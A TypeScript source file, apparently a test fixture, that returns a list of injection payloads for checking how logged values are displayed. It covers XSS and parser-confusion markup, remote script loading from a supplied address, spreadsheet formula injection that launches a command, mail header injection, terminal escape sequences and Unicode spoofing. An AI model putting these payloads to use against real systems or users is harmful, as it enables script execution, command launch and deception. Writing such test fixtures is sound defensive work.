/**
 * Values that attack whoever shows them: a browser, a terminal, a spreadsheet, a ticket, a mail program, a chat, or an eye.
 * Those that would ask for something ask `address`, and those that run set a mark (`HARMED`), so that a test can see both.
 */

/** What a script of a log would set on `window`. */
export const HARMED = 'harmedByLog';

export function attackValues(address: string): readonly string[] {
  const run = `window.${HARMED}=1`;
  const img = `<img src="${address}/img" onerror="${run}">`;
  return [
    // A browser: elements, ends of elements and attributes, and what parsers repair.
    img,
    `"><img src=${address}/q onerror=${run}><"`,
    `' onmouseover='${run}' style='background:url(${address}/s)' autofocus onfocus='${run}`,
    `</script></style></title></textarea></noscript></bdi></details></main><script>${run}</script>`,
    `<script src="${address}/script.js"></script><script>${run}</script>`,
    `<svg/onload=${run}><use href="${address}/u#x"/><animate onbegin=${run} attributeName=x></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=${address}/m onerror=${run}>">`,
    `<noscript><p title="</noscript><img src=${address}/n onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<!--<script>`,
    `--!><img src=${address}/c onerror=${run}> ]]><![CDATA[<b>x</b>]]> <?php echo 1 ?>`,
    `<iframe srcdoc="<script>parent.${HARMED}=1</script>" src="${address}/f"></iframe>`,
    `<base href="${address}/"><meta http-equiv="refresh" content="0;url=${address}/r">`,
    `<link rel=stylesheet href=${address}/l.css><object data=${address}/o></object><embed src=${address}/e>`,
    `<a href="javascript:${run}" id="report" name="location">x</a><form action=${address}/a><button>go`,
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `} * { background: url(${address}/css) } @import "${address}/i.css"; /* </style> */`,
    `\\"};${run};//\\u003cscript\\u003e \\x3cimg`,
    `{{constructor.constructor('${run}')()}} \${${run}} <%= 7*7 %> {{{raw}}} #{7*7} {{>partial}} {{=<% %>=}}`,
    `&lt;b&gt; &#60;b&#62; &amp;lt; &NewLine; &nbsp &#x202e;`,
    // A ticket: Markdown of any kind.
    `![x](${address}/md) [x](${address}/l) [x][y] <${address}/auto> ${address}/bare www.example.com a@example.com`,
    `| a | b |\n|---|---|\n| \`\`\` | ~~~ |\n# title\n- [ ] task\n> quote\n[y]: ${address}/ref`,
    `@everyone @org/team #1 GH-1 !1 org/repo#1 deadbeefdeadbeef :tada: $\`x\`$ <details open> [^1]`,
    // A chat.
    `<!channel> <!here> <@U012AB3CD> <${address}/slack|click> <at>everyone</at> *b* _i_ ~s~`,
    // A spreadsheet.
    `=HYPERLINK("${address}/x","click")`,
    `=cmd|' /C calc'!A0`,
    `\t=1+1`,
    `\r\n@SUM(1+1)*cmd|' /C calc'!A0`,
    `+1+1;=2+2,"=3+3"\n-4+4`,
    `_x003D_1+1`,
    // A mail.
    `x\r\nBcc: evil@example.com\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n.\r\n--boundary--`,
    // YAML, JSON, logs.
    `- !!js/function 'x'\n&a [*a, *a]\n... \n--- {a: 1}`,
    // A terminal.
    `\u001b]8;;${address}/osc\u0007click\u001b]8;;\u0007\u001b]52;c;YmFk\u0007\u001b]0;title\u0007`,
    `\u001bP+q544e\u001b\\\u001b[2J\u001b[1;1H\u001b[31m\u009b31m\u009d0;x\u009c\u0007\b\b\b\u000e`,
    // An eye.
    `ad\u202enimda\u2066x\u2069\u200f\u061c`,
    `ad\u200bmin\u2060\ufeff\u00ad\u034f\u180e`,
    `\u3164\u115f\u1160\uffa0\u2800\u00a0\u2003\u3000\u205f`,
    `admin\u{e0061}\u{e0064}\u{e007f}\u{e0101}\ufe0f`,
    `e${'\u0301\u0316\u20dd\u0488'.repeat(100)}`,
    '\u0e47'.repeat(50),
    '\ud800x\udc00\ufdd0\ufffe\u{1ffff}\u0000',
    '\u2028\u2029\u0085\u000b\u000c',
    '﷽'.repeat(200),
    '\u05d0\u05d1 1 2 3 (\u05d2)',
    // Longer than a cell of a spreadsheet (32,767) or an event of a page (65,536), where an event has it four times or more.
    `Mozilla/5.0 ${'x'.repeat(9000)}`,
    'word '.repeat(2000),
    // Names that objects have, and nothing.
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'toString',
    'null',
    '',
    '   ',
  ];
}
